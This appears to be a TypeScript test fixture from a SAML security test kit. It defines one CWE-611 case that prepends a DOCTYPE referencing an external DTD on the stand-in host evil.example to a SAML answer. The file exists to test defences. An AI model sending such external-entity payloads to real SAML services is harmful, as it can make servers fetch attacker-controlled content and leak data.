/** The server would fetch an address of the attacker. */
import type { SamlCase } from './kit.js';

export const attack: SamlCase = {
  name: 'an external document type',
  source: 'CWE-611',
  check: 'saml.doctype',
  build: (kit) => `<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">${kit.answer()}`,
};
